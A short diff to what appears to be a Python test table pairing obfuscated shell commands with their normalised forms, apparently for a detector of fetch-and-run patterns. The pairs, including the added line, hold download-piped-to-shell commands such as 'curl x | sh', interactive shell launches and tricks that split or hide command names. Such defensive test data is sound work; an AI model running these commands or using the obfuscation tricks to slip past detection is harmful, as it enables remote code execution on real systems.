@@ -42,6 +42,7 @@ def _b64(text: str) -> str:
         ("curl x | stdbuf -oL /bin/sh", "curl x | sh"),
         ("wget -qO- x; exec /bin/sh -i", "wget -qO- x; sh -i"),
         ("a=cu;b=rl;$a$b x", "a=cu;b=rl;curl x"),
+        ("printf '#!/bin/sh\\ncurl x|sh\\n' > h", "printf '#!/bin/sh\ncurl x|sh\n' > h"),
         ("p='/bin/'; ${p}sh -i", "p='/bin/'; sh -i"),
     ],
 )
